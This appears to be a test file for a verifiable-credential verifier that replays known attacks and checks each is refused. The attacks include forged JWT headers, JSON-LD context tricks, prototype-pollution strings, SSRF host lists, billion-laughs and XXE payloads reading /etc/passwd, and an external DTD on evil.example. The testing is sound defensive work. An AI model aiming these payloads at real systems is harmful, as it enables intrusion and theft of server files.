// Known attacks on a credential verifier, one named test each. These fill the gaps left by
// test/verify (tamper, bad-input, network, dates, validator-fixtures), which already cover alg
// none, HS256 with the public key, jku/x5u/x5c/crit, a private jwk, undefined terms, unknown and
// top-level inline contexts, issuer mismatch, proofs from another issuer in a set, proof created
// in the future, SSRF on verification-method URLs, timeouts, size caps and deep nesting.
import { base64url } from 'jose';
import { beforeAll, describe, expect, it } from 'vitest';
import { issueCredential } from '../../src/issue/index.js';
import { createSigner, generateKey, type KeyFile, publicKeyFile } from '../../src/keys/index.js';
import { signDataIntegrity } from '../../src/proof/data-integrity/sign.js';
import { createDocumentLoader } from '../../src/contexts/index.js';
import { createBitstring, createStatusEntry } from '../../src/status/index.js';
import { publishStatusList } from '../../src/status/store/index.js';
import {
  DEFAULT_LIMITS,
  type NetworkOptions,
  type VerificationResult,
  type VerifyOptions,
  verifyCredential,
} from '../../src/verify/index.js';
import { explain } from './arbitraries.js';
import { plainBadge } from '../helpers/badge.js';

type Json = Record<string, any>;
type Fetch = NonNullable<NetworkOptions['fetch']>;
const NOW = '2026-01-01T00:00:00Z';
const CREATED = '2025-06-01T00:00:00Z';
const OB = 'https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json';
const VC2 = 'https://www.w3.org/ns/credentials/v2';

function badge(issuer: string, extra: Json = {}): Json {
  return plainBadge(issuer, {
    id: 'urn:uuid:7d3c6a2e-52a4-4c55-9a0e-1f3b5d7e9a11',
    issuerName: 'Attack Surface Academy',
    name: 'Beginner',
    subject: 'did:example:learner-9',
    description: 'Expert',
    narrative: 'Showed up.',
    extra,
  });
}

const verify = (input: unknown, options: VerifyOptions = {}) =>
  verifyCredential(input, { now: NOW, ...options });
const clone = <T>(v: T): T => structuredClone(v);
const enc = (v: unknown) => base64url.encode(typeof v === 'string' ? v : JSON.stringify(v));
const decodePart = (part: string) => JSON.parse(new TextDecoder().decode(base64url.decode(part)));

/** Signs a compact JWS over any header and payload with the key's real private key. */
async function signCompact(key: KeyFile, header: Json, payload: Json): Promise<string> {
  const signer = await createSigner(key);
  const input = `${enc(header)}.${enc(payload)}`;
  return `${input}.${base64url.encode(await signer.sign({ data: new TextEncoder().encode(input) }))}`;
}

function expectNotVerified(result: VerificationResult, code?: string, verdict?: string): void {
  expect(result.verified, explain(result)).toBe(false);
  if (verdict) expect(result.verdict, explain(result)).toBe(verdict);
  if (code) {
    expect(
      result.checks.some((c) => c.status === 'failed' && c.code === code),
      `expected a failed ${code}: ${explain(result)}`,
    ).toBe(true);
  }
}

let ed: KeyFile;
let p256: KeyFile;
let attacker: KeyFile;
let signed: Json;
let jwt: string;

beforeAll(async () => {
  [ed, p256, attacker] = await Promise.all([
    generateKey(),
    generateKey({ algorithm: 'P-256' }),
    generateKey(),
  ]);
  signed = await issueCredential(badge(ed.controller), { key: ed, created: CREATED });
  jwt = await issueCredential(badge(ed.controller), { key: ed, format: 'vc-jwt' });
}, 60_000);

describe('JOSE header attacks', () => {
  it('alg/key-type mismatch: an ES256 header over an Ed25519 key → invalid, nothing verifies', async () => {
    const [, p] = jwt.split('.') as [string, string];
    // The real Ed25519 signature under a header that claims ES256 …
    const relabelled = await signCompact(ed, { alg: 'ES256', kid: ed.id, typ: 'JWT' }, decodePart(p));
    const result = await verify(relabelled);
    expectNotVerified(result, 'PROOF_SIGNATURE_INVALID', 'invalid');
    expect(result.checks.some((c) => c.code === 'PROOF_VALID')).toBe(false);
    // … and a real ES256 signature by a P-256 key, under a kid naming the Ed25519 key.
    const crossed = await signCompact(p256, { alg: 'ES256', kid: ed.id, typ: 'JWT' }, decodePart(p));
    expectNotVerified(await verify(crossed), 'PROOF_SIGNATURE_INVALID', 'invalid');
    // EdDSA over a P-256 kid.
    const p256Jwt = await issueCredential(badge(p256.controller), { key: p256, format: 'vc-jwt' });
    const [, p2] = p256Jwt.split('.') as [string, string];
    const edOverP256 = await signCompact(ed, { alg: 'EdDSA', kid: p256.id, typ: 'JWT' }, decodePart(p2));
    expectNotVerified(await verify(edOverP256), 'PROOF_SIGNATURE_INVALID', 'invalid');
  });

  it('jwk header injection next to a kid: the kid decides; the attacker key in jwk is never used', async () => {
    const [, p] = jwt.split('.') as [string, string];
    const payload = decodePart(p);
    payload.name = 'Grand Master';
    const header = { alg: 'EdDSA', kid: ed.id, jwk: publicKeyFile(attacker).publicKeyJwk, typ: 'JWT' };
    const forged = await signCompact(attacker, header, payload);
    const result = await verify(forged);
    expectNotVerified(result, 'PROOF_SIGNATURE_INVALID', 'invalid');
  });

  it('jwk header alone, claiming a did:key issuer: the attacker key is not the issuer → never verified', async () => {
    const [, p] = jwt.split('.') as [string, string];
    const forged = await signCompact(
      attacker,
      { alg: 'EdDSA', jwk: publicKeyFile(attacker).publicKeyJwk, typ: 'JWT' },
      decodePart(p),
    );
    expectNotVerified(await verify(forged), 'ISSUER_KEY_UNBOUND', 'indeterminate');
  });

  it('a JWT whose payload verifies but whose embedded proof is broken → invalid', async () => {
    const inner = clone(signed);
    inner.proof.proofValue = `${inner.proof.proofValue.slice(0, -4)}zzzz`;
    const token = await issueCredential(inner, { key: ed, format: 'vc-jwt' });
    const result = await verify(token);
    expect(result.checks).toContainEqual(expect.objectContaining({ code: 'PROOF_VALID', status: 'passed' }));
    expectNotVerified(result, 'PROOF_SIGNATURE_INVALID', 'invalid');
    expect(result.checks.find((c) => c.code === 'PROOF_SIGNATURE_INVALID')?.path).toBe('/proof');
  });

  it('a JWT carrying an embedded proof by another issuer → invalid (issuer binding)', async () => {
    const other = await issueCredential(badge(attacker.controller), { key: attacker, created: CREATED });
    const inner = { ...badge(ed.controller), proof: other.proof };
    const token = await issueCredential(inner, { key: ed, format: 'vc-jwt' });
    const result = await verify(token);
    expectNotVerified(result, undefined, 'invalid');
    expect(
      result.checks.some(
        (c) => c.status === 'failed' && /PROOF_SIGNATURE_INVALID|ISSUER_KEY_MISMATCH/.test(c.code),
      ),
    ).toBe(true);
  });
});

describe('JSON-LD context attacks', () => {
  // A VCDM 1.1 credential on the OB 3.0.1 context, whose terms are not @protected (verifiers must
  // still accept it): the setting in which a nested context can rebind terms.
  let legacy: Json;
  beforeAll(async () => {
    const credential = {
      ...badge(ed.controller),
      '@context': [
        'https://www.w3.org/2018/credentials/v1',
        'https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.1.json',
      ],
      issuanceDate: '2025-01-01T00:00:00Z',
    };
    delete (credential as Json).validFrom;
    legacy = await signDataIntegrity(credential, {
      signer: await createSigner(ed),
      cryptosuite: 'eddsa-rdfc-2022',
      documentLoader: createDocumentLoader(),
      created: CREATED,
    });
  });

  it('look-alike nested context: name and description swapped by an inline context → CONTEXT_INLINE (was a forgery)', async () => {
    expect((await verify(legacy)).verdict).toBe('verified');
    const forged = clone(legacy);
    const a = forged.credentialSubject.achievement;
    // Same N-Quads as signed, different JSON: "Beginner" would now display as "Expert".
    a['@context'] = {
      name: { '@id': 'https://schema.org/description', '@type': 'xsd:string' },
      description: { '@id': 'https://schema.org/name', '@type': 'xsd:string' },
    };
    [a.name, a.description] = [a.description, a.name];
    const result = await verify(forged);
    expectNotVerified(result, 'CONTEXT_INLINE', 'invalid');
    expect(result.checks.find((c) => c.code === 'CONTEXT_INLINE')?.path).toBe(
      '/credentialSubject/achievement/@context',
    );
  });

  it('a nested context by URL outside an embedded credential → CONTEXT_NESTED', async () => {
    const forged = clone(legacy);
    forged.credentialSubject.achievement['@context'] =
      'https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.2.json';
    expectNotVerified(await verify(forged), 'CONTEXT_NESTED', 'invalid');
    // A proof may carry an @context by URL, but only the first entries of the credential's (VC Data
    // Integrity §4.3): a context that merely canonicalizes alike used to verify.
    const byUrl = clone(signed);
    byUrl.proof['@context'] = 'https://w3id.org/security/data-integrity/v2';
    const r1 = await verify(byUrl);
    expect(r1.checks.some((c) => c.code === 'CONTEXT_NESTED')).toBe(false);
    expectNotVerified(r1, 'PROOF_MALFORMED', 'invalid');
    const inline = clone(signed);
    inline.proof['@context'] = { proofValue: 'https://evil.example/#pv' };
    expectNotVerified(await verify(inline), 'CONTEXT_INLINE', 'invalid');
  });

  it('a caller-supplied context that redefines name, appended → invalid (OB terms are protected)', async () => {
    const url = 'https://caller.example/contexts/lookalike.json';
    const documents = { [url]: { '@context': { name: 'https://evil.example/vocab#name' } } };
    const forged = clone(signed);
    forged['@context'].push(url);
    const result = await verify(forged, { documents });
    expectNotVerified(result, undefined, 'invalid');
    expect(result.checks.some((c) => c.status === 'failed' && /protected term/.test(c.message))).toBe(true);
    // Without the document it is simply unknown: never fetched, so it cannot be checked
    // (indeterminate: supply the context), and is never verified.
    expectNotVerified(await verify(forged), 'CONTEXT_UNKNOWN', 'indeterminate');
  });

  it('an OB context URL with a version suffix that is not bundled → CONTEXT_UNKNOWN, never loaded', async () => {
    const forged = clone(signed);
    forged['@context'][1] = 'https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.9.json';
    const loaded: string[] = [];
    const network: NetworkOptions = {
      fetch: async (url) => {
        loaded.push(url);
        return new Response('{}', { status: 200 });
      },
    };
    const result = await verify(forged, { network });
    // Never loaded, so never checked: indeterminate, not verified, in strict mode too.
    expectNotVerified(result, 'CONTEXT_UNKNOWN', 'indeterminate');
    expectNotVerified(await verify(forged, { network, strict: true }), 'CONTEXT_UNKNOWN');
    expect(loaded).toEqual([]);
  });

  it('@vocab in an inline context, signed by the issuer itself → CONTEXT_INLINE (no own vocabulary)', async () => {
    const credential = badge(ed.controller, {
      '@context': [VC2, OB, { '@vocab': 'https://evil.example/#' }],
    });
    credential.undefinedTerm = 'smuggled past safe mode';
    const own = await signDataIntegrity(credential, {
      signer: await createSigner(ed),
      cryptosuite: 'eddsa-rdfc-2022',
      documentLoader: createDocumentLoader(),
      created: CREATED,
    });
    expectNotVerified(await verify(own), 'CONTEXT_INLINE', 'invalid');
    // The same @vocab nested in the subject.
    const nested = clone(signed);
    nested.credentialSubject['@context'] = { '@vocab': 'https://evil.example/#' };
    nested.credentialSubject.undefinedTerm = 'x';
    expectNotVerified(await verify(nested), 'CONTEXT_INLINE', 'invalid');
  });

  it('@vocab in a caller-supplied context: safe mode is satisfied, the added property still breaks the signature', async () => {
    const url = 'https://caller.example/contexts/vocab.json';
    const documents = { [url]: { '@context': { '@vocab': 'https://caller.example/vocab#' } } };
    const forged = clone(signed);
    forged['@context'].push(url);
    forged.credentialSubject.grade = 'A+';
    const result = await verify(forged, { documents });
    expectNotVerified(result, 'PROOF_SIGNATURE_INVALID', 'invalid');
  });

  it('@id / @type aliasing in an inline context → CONTEXT_INLINE', async () => {
    for (const [where, aliasing] of [
      ['root', (d: Json) => d['@context'].push({ uid: '@id', kind: '@type' })],
      ['subject', (d: Json) => (d.credentialSubject['@context'] = { uid: '@id', kind: '@type' })],
    ] as const) {
      const forged = clone(signed);
      aliasing(forged);
      const s = forged.credentialSubject;
      s.uid = s.id;
      delete s.id;
      expectNotVerified(await verify(forged), 'CONTEXT_INLINE', 'invalid');
      expect(where).toBeTruthy();
    }
  });

  it('@id aliasing in a caller-supplied context: the ids a reader sees vanish → never verified', async () => {
    const url = 'https://caller.example/contexts/alias.json';
    const documents = { [url]: { '@context': { uid: '@id' } } };
    for (const move of [
      (d: Json) => {
        d.uid = d.id;
        delete d.id;
      },
      (d: Json) => {
        d.issuer.uid = d.issuer.id;
        delete d.issuer.id;
      },
      (d: Json) => {
        d.credentialSubject.uid = d.credentialSubject.id;
        delete d.credentialSubject.id;
      },
    ]) {
      const forged = clone(signed);
      forged['@context'].push(url);
      move(forged);
      // Same RDF, so the signature holds: refused as authenticity (the JSON does not say what is
      // signed), not left to the JSON Schema, which is conformance and only a warning by default.
      expectNotVerified(await verify(forged, { documents }), 'CONTEXT_KEYWORD_ALIAS', 'invalid');
    }
    // Scoped in a term definition, and as an expanded definition: refused the same.
    for (const context of [
      { Wrap: { '@id': 'https://x.example/W', '@context': { uid: '@id' } } },
      { uid: { '@id': '@id' } },
    ]) {
      const forged = clone(signed);
      forged['@context'].push(url);
      expectNotVerified(
        await verify(forged, { documents: { [url]: { '@context': context } } }),
        'CONTEXT_KEYWORD_ALIAS',
        'invalid',
      );
    }
  });
});

describe('status lists', () => {
  it('a status list signed by another issuer → STATUS_LIST_ISSUER_MISMATCH, indeterminate', async () => {
    const listUrl = 'https://status.example/lists/1';
    const entry = createStatusEntry({ listCredential: listUrl, purpose: 'revocation', index: 42 });
    const credential = await issueCredential(badge(ed.controller, { credentialStatus: entry }), {
      key: ed,
      created: CREATED,
    });
    // The attacker publishes a clean list at that URL, signed with their own key.
    const [list] = await publishStatusList(
      { url: listUrl, purpose: 'revocation', bits: createBitstring() },
      { key: attacker, created: CREATED, validFrom: '2025-01-01T00:00:00Z' },
    );
    const result = await verify(credential, { documents: { [listUrl]: list!.credential } });
    expectNotVerified(result, 'STATUS_LIST_ISSUER_MISMATCH', 'indeterminate');
    // The same list signed by the issuer is accepted (the harness is sound).
    const [own] = await publishStatusList(
      { url: listUrl, purpose: 'revocation', bits: createBitstring() },
      { key: ed, created: CREATED, validFrom: '2025-01-01T00:00:00Z' },
    );
    expect((await verify(credential, { documents: { [listUrl]: own!.credential } })).verdict).toBe(
      'verified',
    );
  });

  it('a status list is dated at the verifier’s `now`, not the machine clock (was the machine clock)', async () => {
    const listUrl = 'https://status.example/lists/dated';
    const entry = createStatusEntry({ listCredential: listUrl, purpose: 'revocation', index: 7 });
    const credential = await issueCredential(badge(ed.controller, { credentialStatus: entry }), {
      key: ed,
      created: CREATED,
    });
    // Valid for one day around NOW: expired by any machine clock running this test later.
    const [list] = await publishStatusList(
      { url: listUrl, purpose: 'revocation', bits: createBitstring() },
      { key: ed, created: CREATED, validFrom: '2025-12-31T00:00:00Z', validUntil: '2026-01-02T00:00:00Z' },
    );
    const documents = { [listUrl]: list!.credential };
    expect((await verify(credential, { documents })).verdict).toBe('verified');
    // A month later the list is stale: never verified.
    const later = await verifyCredential(credential, { now: '2026-02-01T00:00:00Z', documents });
    expectNotVerified(later, 'STATUS_LIST_UNVERIFIED', 'indeterminate');
  });
});

describe('prototype pollution', () => {
  const POISON =
    '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"prototype":{"polluted":"yes"}}';
  const snapshot = () => ({
    object: Object.getOwnPropertyNames(Object.prototype).sort().join(),
    array: Object.getOwnPropertyNames(Array.prototype).sort().join(),
    fn: Object.getOwnPropertyNames(Function.prototype).sort().join(),
  });

  function expectClean(before: ReturnType<typeof snapshot>): void {
    expect(snapshot()).toEqual(before);
    expect(({} as Json).polluted).toBeUndefined();
    expect(([] as unknown as Json).polluted).toBeUndefined();
    expect((Object.create(null) as Json).polluted).toBeUndefined();
  }

  // The keys, as JSON text (JSON.parse makes them own properties), at every level of the credential.
  const places: Array<[string, (text: string) => string]> = [
    ['the root', (t) => t.replace('{', `{"__proto__":${POISON},"constructor":${POISON},`)],
    ['the subject', (t) => t.replace('"credentialSubject":{', `"credentialSubject":{"__proto__":${POISON},`)],
    ['the achievement', (t) => t.replace('"achievement":{', `"achievement":{"constructor":${POISON},`)],
    [
      'the issuer',
      (t) => t.replace('"issuer":{', `"issuer":{"prototype":${POISON},"__proto__":{"id":"did:example:x"},`),
    ],
    ['the proof', (t) => t.replace('"proof":{', `"proof":{"__proto__":${POISON},`)],
    ['the @context array', (t) => t.replace('"@context":[', `"@context":[${POISON},`)],
    ['the type array', (t) => t.replace('"type":[', `"type":[${POISON},`)],
  ];

  it.each(places)(
    '__proto__ / constructor / prototype keys in %s: refused, nothing polluted',
    async (_, inject) => {
      const before = snapshot();
      const text = inject(JSON.stringify(signed));
      expect(text).not.toBe(JSON.stringify(signed));
      const result = await verify(text);
      expectNotVerified(result);
      expectClean(before);
    },
  );

  it('… in a JWT header and payload: nothing polluted, never verified', async () => {
    const before = snapshot();
    const [h, p, s] = jwt.split('.') as [string, string, string];
    const header = new TextDecoder().decode(base64url.decode(h)).replace('{', `{"__proto__":${POISON},`);
    const payload = new TextDecoder().decode(base64url.decode(p)).replace('{', `{"__proto__":${POISON},`);
    expectNotVerified(await verify(`${enc(header)}.${p}.${s}`));
    expectNotVerified(await verify(`${h}.${enc(payload)}.${s}`));
    expectClean(before);
  });

  it('… in caller documents (a DID document and a status list): nothing polluted', async () => {
    const before = snapshot();
    const poisoned = JSON.parse(POISON);
    await verify(signed, { documents: JSON.parse(`{"__proto__":${POISON},"${ed.controller}":${POISON}}`) });
    await verify({ ...signed, credentialStatus: poisoned });
    expectClean(before);
  });
});

describe('limits: huge strings and arrays', () => {
  it('an array of more than 1,000,000 values (within maxBytes) → LIMIT_EXCEEDED with what and how much', async () => {
    const text = JSON.stringify({ ...signed, tags: new Array(1_000_001).fill(0) });
    expect(text.length).toBeLessThan(DEFAULT_LIMITS.maxBytes);
    const result = await verify(text);
    expectNotVerified(result, 'LIMIT_EXCEEDED', 'invalid');
    expect(result.checks[0]!.message).toMatch(/more than 1,000,000 values/);
  });

  it('maxValues is configurable both ways; a limit that is not a positive integer is refused, not ignored', async () => {
    const low = await verify(signed, { limits: { maxValues: 10 } });
    expectNotVerified(low, 'LIMIT_EXCEEDED');
    expect(low.checks[0]!.message).toMatch(/more than 10 values/);
    const big = { ...signed, tags: new Array(2000).fill(0) };
    expectNotVerified(await verify(big, { limits: { maxValues: 1000 } }), 'LIMIT_EXCEEDED');
    const raised = await verify(big, { limits: { maxValues: 5000 } });
    // Past the limits: refused later, for what it is (an unsigned, undefined property).
    expect(raised.checks.some((c) => c.code === 'LIMIT_EXCEEDED')).toBe(false);
    expect(raised.verified).toBe(false);
    // `undefined` keeps the default; NaN, 0, negative or a string would have switched the guard off.
    expect((await verify(signed, { limits: { maxDepth: undefined } as never })).verdict).toBe('verified');
    for (const bad of [Number.NaN, 0, -1, 1.5, '64', null]) {
      const result = await verify(signed, { limits: { maxDepth: bad } as never });
      expectNotVerified(result, 'OPTION_INVALID', 'invalid');
      expect(result.checks[0]!.message).toMatch(/options.limits.maxDepth must be a positive integer/);
    }
  });

  it('a 2 MiB name → LIMIT_EXCEEDED (maxStringLength 1 MiB); raising maxStringLength lets the signature decide', async () => {
    const forged = clone(signed);
    forged.name = 'x'.repeat(2 * 1024 * 1024);
    const result = await verify(forged);
    expectNotVerified(result, 'LIMIT_EXCEEDED', 'invalid');
    expect(result.checks[0]!.message).toMatch(/a string longer than 1048576 characters/);
    const raised = await verify(forged, { limits: { maxStringLength: 4 * 1024 * 1024 } });
    expectNotVerified(raised, 'PROOF_SIGNATURE_INVALID', 'invalid');
  });

  it('a VC-JWT whose payload is nested 100,000 levels or holds a 2 MiB string → LIMIT_EXCEEDED (was unchecked)', async () => {
    const deep = `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`;
    const header = enc({ alg: 'EdDSA', kid: ed.id, typ: 'JWT' });
    const deepJwt = `${header}.${enc(`{"type":["VerifiableCredential","OpenBadgeCredential"],"x":${deep}}`)}.AAAA`;
    const r1 = await verify(deepJwt);
    expectNotVerified(r1, 'LIMIT_EXCEEDED', 'invalid');
    expect(r1.checks[0]!.message).toMatch(/nesting deeper than 64 levels/);
    const [, p] = jwt.split('.') as [string, string];
    const payload = { ...decodePart(p), name: 'x'.repeat(2 * 1024 * 1024) };
    const r2 = await verify(await signCompact(ed, { alg: 'EdDSA', kid: ed.id, typ: 'JWT' }, payload));
    expectNotVerified(r2, 'LIMIT_EXCEEDED', 'invalid');
    expect(r2.checks[0]!.message).toMatch(/longer than 1048576/);
  });

  it('the defaults are what the README says', () => {
    expect(DEFAULT_LIMITS).toEqual({
      maxBytes: 5 * 1024 * 1024,
      maxDepth: 64,
      maxProofs: 8,
      maxEndorsements: 16,
      maxStringLength: 1024 * 1024,
      maxValues: 1_000_000,
      canonicalizationWorkFactor: 8,
      maxBlankNodes: 50_000,
    });
  });
});

describe('Unicode', () => {
  it('a lone surrogate swapped for another (both sign as U+FFFD) → refused, was verified', async () => {
    // The issuer side does not refuse a lone surrogate (reported): the signature then covers
    // U+FFFD, which is the only spelling the verifier accepts.
    const credential = badge(ed.controller);
    credential.credentialSubject.achievement.name = 'Level \uD800';
    const own = await signDataIntegrity(credential, {
      signer: await createSigner(ed),
      cryptosuite: 'eddsa-rdfc-2022',
      documentLoader: createDocumentLoader(),
      created: CREATED,
    });
    for (const swapped of ['Level \uDC00', 'Level \uFFFD', 'Level \uD800']) {
      const forged = clone(own) as Json;
      forged.credentialSubject.achievement.name = swapped;
      const result = await verify(forged);
      if (swapped.endsWith('\uFFFD')) {
        expect(result.verdict, explain(result)).toBe('verified');
      } else {
        expectNotVerified(result, 'PARSE_FAILED', 'invalid');
        expect(result.checks[0]!.message).toMatch(
          /lone UTF-16 surrogate.* at \/credentialSubject\/achievement\/name$/,
        );
      }
    }
  });
});

// ---------------------------------------------------------------------------------------------
// SSRF: did:web DIDs, status lists and redirects aimed at the verifier's own network.

const PRIVATE_HOSTS = [
  'localhost',
  'localhost.',
  'api.localhost',
  '127.0.0.1',
  '127.1',
  '[::1]',
  '[::ffff:127.0.0.1]',
  '10.1.2.3',
  '172.16.0.1',
  '172.31.255.254',
  '192.168.1.1',
  '169.254.169.254',
  'metadata.google.internal.',
  '0x7f000001',
  '2130706433',
  '017700000001',
  '0.0.0.0',
  '[fd00::1]',
  '[fe80::1]',
];

/** A fetch that records every URL and serves nothing. */
function recordingFetch(): { fetch: Fetch; calls: string[] } {
  const calls: string[] = [];
  return {
    calls,
    fetch: async (url) => {
      calls.push(url);
      return new Response('{}', { status: 200, headers: { 'content-type': 'application/json' } });
    },
  };
}

describe('SSRF', () => {
  it.each(PRIVATE_HOSTS)('did:web at %s → refused before any fetch, indeterminate', async (host) => {
    // did:web encodes a port colon as %3A; brackets of an IPv6 literal as %5B/%5D.
    const didHost = encodeURIComponent(host);
    const did = `did:web:${didHost}`;
    const credential = clone(signed);
    credential.issuer.id = did;
    credential.proof.verificationMethod = `${did}#key-1`;
    const { fetch, calls } = recordingFetch();
    const result = await verify(credential, { network: { fetch } });
    expect(result.verified).toBe(false);
    const check = result.checks.find((c) => c.status === 'failed' && c.id === 'proof');
    expect(check, explain(result)).toBeDefined();
    expect(check!.message).toMatch(/Refusing|ERR_FETCH_REFUSED|is not a host name/);
    expect(calls).toEqual([]);
  });

  it.each([
    ...PRIVATE_HOSTS.map((h) => `https://${h}/status/1`),
    'http://status.example/1',
    'file:///etc/passwd',
    'ftp://status.example/1',
    'data:application/json,{}',
    'javascript:alert(1)',
    'gopher://status.example/1',
  ])('a status list at %s → refused before any fetch, indeterminate', async (url) => {
    const credential = await issueCredential(
      badge(ed.controller, {
        '@context': [VC2, OB, 'https://purl.imsglobal.org/spec/ob/v3p0/extensions.json'],
        credentialStatus: { id: url, type: '1EdTechRevocationList' },
      }),
      { key: ed, created: CREATED, validate: false },
    );
    const { fetch, calls } = recordingFetch();
    const result = await verify(credential, { network: { fetch } });
    expectNotVerified(result, 'STATUS_UNAVAILABLE', 'indeterminate');
    expect(calls).toEqual([]);
  });

  it.each([
    'https://localhost./did.json',
    'https://127.0.0.1/did.json',
    'https://[::1]/did.json',
    'http://badges.example/did.json',
    'file:///etc/passwd',
    '//169.254.169.254/latest/meta-data',
  ])('a redirect to %s → refused, never followed', async (location) => {
    const key = await generateKey({ did: { web: 'badges.example' } });
    const credential = await issueCredential(badge(key.controller), { key, created: CREATED });
    const calls: string[] = [];
    const fetch: Fetch = async (url) => {
      calls.push(url);
      return new Response(null, { status: 302, headers: { location } });
    };
    const result = await verify(credential, { network: { fetch } });
    expectNotVerified(result, 'PROOF_KEY_UNRESOLVED', 'indeterminate');
    expect(calls).toEqual(['https://badges.example/.well-known/did.json']);
  });
});

describe('slow and endless responses', () => {
  const listUrl = 'https://status.example/lists/slow';
  let credential: Json;
  beforeAll(async () => {
    const entry = createStatusEntry({ listCredential: listUrl, purpose: 'revocation', index: 3 });
    credential = await issueCredential(badge(ed.controller, { credentialStatus: entry }), {
      key: ed,
      created: CREATED,
    });
  });

  it('a status list whose body never ends → indeterminate within the timeout', async () => {
    const fetch: Fetch = async () =>
      new Response(
        new ReadableStream({
          start(controller) {
            controller.enqueue(new TextEncoder().encode('{"@context":'));
          },
        }),
        { status: 200 },
      );
    const started = Date.now();
    const result = await verify(credential, { network: { fetch, timeout: 100 } });
    expectNotVerified(result, 'STATUS_UNAVAILABLE', 'indeterminate');
    expect(result.checks.find((c) => c.code === 'STATUS_UNAVAILABLE')?.message).toMatch(/ERR_FETCH_TIMEOUT/);
    expect(Date.now() - started).toBeLessThan(5000);
  });

  it('a status list that streams forever → cut off at the size cap', async () => {
    let sent = 0;
    const fetch: Fetch = async () =>
      new Response(
        new ReadableStream({
          pull(controller) {
            sent += 65536;
            controller.enqueue(new Uint8Array(65536).fill(0x20));
          },
        }),
        { status: 200 },
      );
    const result = await verify(credential, { network: { fetch, maxBytes: 128 * 1024 } });
    expectNotVerified(result, 'STATUS_UNAVAILABLE', 'indeterminate');
    expect(result.checks.find((c) => c.code === 'STATUS_UNAVAILABLE')?.message).toMatch(
      /ERR_FETCH_TOO_LARGE/,
    );
    expect(sent).toBeLessThan(1024 * 1024);
  });

  it('a fetch that ignores the abort signal and never settles → still times out', async () => {
    const fetch: Fetch = () => new Promise(() => {});
    const result = await verify(credential, { network: { fetch, timeout: 100 } });
    expectNotVerified(result, 'STATUS_UNAVAILABLE', 'indeterminate');
  });
});

describe('XML attacks on baked SVGs', () => {
  const svgWith = (doctype: string, body: string) =>
    `<?xml version="1.0"?>${doctype}<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"><openbadges:credential>${body}</openbadges:credential></svg>`;
  const laughs = [
    '<!DOCTYPE svg [',
    '<!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`),
    ']>',
  ].join('');

  it.each([
    ['billion laughs', svgWith(laughs, '&lol9;')],
    [
      'an external entity (XXE)',
      svgWith('<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '&xxe;'),
    ],
    [
      'a parameter entity',
      svgWith('<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>', 'x'),
    ],
  ])('%s → refused quickly, nothing expanded or fetched', async (_, svg) => {
    for (const input of [svg, new TextEncoder().encode(svg)]) {
      const started = Date.now();
      const result = await verify(input);
      expectNotVerified(result, 'PARSE_FAILED', 'invalid');
      expect(result.checks[0]!.message).toMatch(/DTD|DOCTYPE|entit/i);
      expect(Date.now() - started).toBeLessThan(2000);
    }
  });
});

describe('proofs without a type', () => {
  // Found by the W3C vc-di-ecdsa suite: `proof: {}` (or a proof with no `type`) named its kind
  // `undefined`, and the verifier stopped with INTERNAL_ERROR instead of a check.
  it('an empty proof, or a genuine proof with its type removed, is a check failure, never a crash', async () => {
    const { type: _type, ...typeless } = signed.proof as Json;
    for (const proof of [{}, typeless, [typeless, signed.proof]]) {
      for (const profile of ['ob', 'vc'] as const) {
        const result = await verify({ ...clone(signed), proof }, { profile });
        expectNotVerified(result);
        expect(
          result.checks.map((c) => c.code),
          explain(result),
        ).not.toContain('INTERNAL_ERROR');
      }
    }
  });
});
